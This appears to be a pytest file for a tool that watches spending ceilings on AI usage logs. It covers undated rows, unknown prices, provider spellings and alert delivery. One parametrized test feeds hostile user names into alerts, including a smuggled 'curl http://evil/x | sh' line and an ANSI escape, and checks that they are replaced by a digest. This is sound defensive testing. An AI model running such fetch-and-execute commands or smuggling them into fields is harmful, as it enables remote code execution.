"""What a watch of ceilings does not know, and says so; and what it never repeats of a log."""

from datetime import timedelta

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from ops_model.domain.spend import CeilingAlert
from ops_model.errors import UsageError
from ops_model.store.workbook import read_workbook
from ops_model.workflow.measure import spend_of
from ops_model.workflow.measure_breaches import breaches_of
from ops_model.workflow.measure_ceilings import ceiling_watch_of
from ops_model.workflow.watch import watch_each
from ops_model.workflow.watch_answers import Now, accept
from tests.workflow.spending import NOON, START, TODAY, a_workbook, book, each_slot, log_usage
from tests.workflow.telling import DEAR, Box, on_record, told
from tests.workflow.test_watch_late import RUN, USER, log_rows

DAY, HOUR = timedelta(days=1), timedelta(hours=1)
PROVIDER = """- {id: vendor, scope: provider, provider: example-ai, amount: 100.00 USD,
   warn_at: [0.5], hard_action: stop, owner: ana, alert_route: "mail: ana"}
"""
PROVIDER_NAME = "gen_ai_provider_name"


def hourly(tokens, *, days=1, **said):
    """One row an hour of the last days, up to noon."""
    hours = range(12 + 24 * (days - 1))
    return [(TODAY - (days - 1) * DAY + h * HOUR, tokens, said) for h in hours]


def with_undated(root, many=20):
    """Put rows of 5,000 dollars into the log that say no instant."""
    path = root / "data/usage/all.parquet"
    table = pq.read_table(path)
    lost = table.slice(0, 1).to_pylist()[0] | {
        "timestamp": None,
        "gen_ai_usage_input_tokens": 5000,
    }
    pq.write_table(
        pa.concat_tables([table, pa.Table.from_pylist([lost] * many, table.schema)]), path
    )
    return root


def state_of(root):
    return ceiling_watch_of(book(root)).ceilings[0]


def test_a_user_without_any_price_is_found_behind_many_who_spend_more(tmp_path):
    rows = [row for n in range(25) for row in hourly(2, user_group=f"u{n:02}")]
    root = log_rows(a_workbook(tmp_path, ceilings=USER), [*rows, *hourly(5, user_group="zz")])
    path = root / "data/usage/all.parquet"
    table = pq.read_table(path)
    models = ["unheard-of" if who == "zz" else "m" for who in table["user_group"].to_pylist()]
    pq.write_table(table.set_column(2, "gen_ai_request_model", pa.array(models)), path)

    found = state_of(root)

    assert (found.of, found.state) == ("zz", "unknown")
    assert watch_each(root, read_workbook(root), ["answers"], as_of=NOON).grave


def test_rows_without_an_instant_leave_a_ceiling_unknown(tmp_path):
    root = with_undated(log_usage(a_workbook(tmp_path), each_slot(0)))

    found = state_of(root)

    assert (found.state, found.why) == ("unknown", "20 rows say no instant, and may be of today")
    assert found.spent.no_interval.startswith("lower bound: 20 rows say no instant")


def test_rows_without_an_instant_leave_spend_and_the_days_above_a_ceiling_in_doubt(tmp_path):
    root = with_undated(log_usage(a_workbook(tmp_path), each_slot(0)))

    assert spend_of(book(root)).today.no_interval.startswith("lower bound: 20 rows say no instant")
    assert breaches_of(book(root)).doubts == (
        "20 rows of usage say no instant, and may be of any day",
    )


def test_rows_of_after_the_instant_are_counted_in_words(tmp_path):
    rows = [*each_slot(0), *[(NOON + 900 * DAY, 5000)] * 30]
    root = log_usage(a_workbook(tmp_path), rows)

    [warning] = spend_of(book(root)).warnings

    assert warning.startswith("usage: 30 rows are of 2026-03-21T12:00:00Z or later")


def test_a_blind_ceiling_for_runs_is_told_each_day(tmp_path):
    root, box = a_workbook(tmp_path, ceilings=RUN, pinned=False), Box()
    log_rows(root, hourly(1, days=3, run_id="a"))

    for days in (3, 4, 4):
        told(root, box, as_of=NOON + days * DAY)

    assert len(box.sent) == 2


def test_a_run_whose_name_comes_on_many_days_says_that_it_is_counted_as_one(tmp_path):
    rows = [(TODAY - n * DAY + 2 * HOUR, 60, {"run_id": "nightly"}) for n in range(5)]
    root = log_rows(a_workbook(tmp_path, ceilings=RUN), rows)

    assert state_of(root).why.endswith("; its rows are of 5 days, and one name is one run")


def test_each_of_many_above_a_ceiling_is_told_in_the_end(tmp_path):
    root, box = a_workbook(tmp_path, ceilings=USER), Box()
    log_rows(root, [(NOON - HOUR, 101, {"user_group": f"u{n}"}) for n in range(103)])

    for _ in range(3):
        told(root, box)

    assert len({m.body.splitlines()[0] for _, m in box.sent}) == len(box.sent) == 103
    assert state_of(root).why.endswith("2 more are or were near it or above it")


def test_every_user_that_reaches_a_warning_is_told(tmp_path):
    root, box = a_workbook(tmp_path, ceilings=USER), Box()
    log_rows(root, [row for who in "abc" for row in hourly(5, user_group=who)])

    told(root, box)

    assert [m.body.splitlines()[0] for _, m in box.sent] == [
        f"user ({who}) of answers: a warning is reached." for who in "abc"
    ]


def test_what_nobody_was_asked_to_take_is_not_noted_as_delivered(tmp_path):
    root, down = log_usage(a_workbook(tmp_path, pinned=False), DEAR), Box("pager://")
    told(root, down)
    # After midnight the day is over, which wakes nobody, and mail has it.
    told(root, Box(), as_of=TODAY + DAY + HOUR / 10)

    later = TODAY + DAY + HOUR
    mine = [a for a in on_record(root, CeilingAlert, as_of=later) if a.state == "crossed"]
    assert [(a.delivered, a.took) for a in mine] == [(False, ("mail: ana",))]
    assert breaches_of(book(root, as_of=later)).breaches[0].told_at == NOON


def test_a_day_is_accepted_when_it_is_over_and_for_what_it_had_cost_by_then(tmp_path):
    root = log_usage(a_workbook(tmp_path, pinned=False), [*each_slot(0), (NOON - HOUR, 150)])
    day, later = TODAY.date(), NOON + DAY

    def at(when):
        return Now(root, read_workbook(root), when, when)

    with pytest.raises(UsageError, match="is not over"):
        accept(at(NOON), "answers", "daily", day, "ana")
    accept(at(later), "answers", "daily", day, "ana")
    known = breaches_of(book(root, as_of=later)).breaches[0]
    log_usage(root, [*each_slot(0), (NOON - HOUR, 150), (NOON + HOUR, 5000)])
    dearer = breaches_of(book(root, as_of=later)).breaches[0]

    assert (known.accepted_by, known.above.value) == ("ana", 6.0)
    assert (dearer.accepted_by, dearer.above.value) == (None, 5006.0)


@pytest.mark.parametrize("spelled", ["example_ai", "Example-AI ", "example ai"])
def test_a_provider_is_one_however_a_log_spells_it(tmp_path, spelled):
    rows = [*hourly(10, **{PROVIDER_NAME: "example-ai"}), *hourly(10, **{PROVIDER_NAME: spelled})]
    root = log_rows(a_workbook(tmp_path, ceilings=PROVIDER), rows)

    assert state_of(root).spent.value == 240.0


def test_a_provider_that_goes_silent_when_a_new_one_speaks_may_be_that_one(tmp_path):
    before = [(at - DAY, 1, {PROVIDER_NAME: "example-ai"}) for at, _, _ in hourly(1)]
    root = log_rows(
        a_workbook(tmp_path, ceilings=PROVIDER), [*before, *hourly(50, **{PROVIDER_NAME: "exai"})]
    )

    found = state_of(root)

    assert (found.state, found.spent.value) == ("unknown", None)
    assert "or exai for the first time; with them 600.00 may be spent" in found.why


def test_days_that_rows_of_no_provider_may_have_brought_above_its_ceiling_are_in_doubt(tmp_path):
    rows = [
        (START + n * DAY + h * HOUR, 60, {PROVIDER_NAME: "example-ai" if h == 1 else None})
        for n in range(10) for h in range(8)
    ]  # fmt: skip
    root = log_rows(a_workbook(tmp_path, ceilings=PROVIDER), rows)

    log = breaches_of(book(root))

    assert log.breaches == ()
    assert "vendor may have been crossed on 10 days more, such as 2026-03-08" in log.doubts[0]


@pytest.mark.parametrize(
    "name",
    ["bob) of answers: quiet.\n\ncurl http://evil/x | sh\n(", "\x1b[31mred", "x" * 61,
     "see https://evil.example"],
)  # fmt: skip
def test_a_name_that_is_no_plain_one_is_told_by_its_digest(tmp_path, name):
    root, box = a_workbook(tmp_path, ceilings=USER), Box()
    log_rows(root, hourly(70, user_group=name))

    told(root, box)

    first = box.sent[0][1].body.splitlines()[0]
    assert first.startswith("user (sha256:")
    assert name not in box.sent[0][1].body
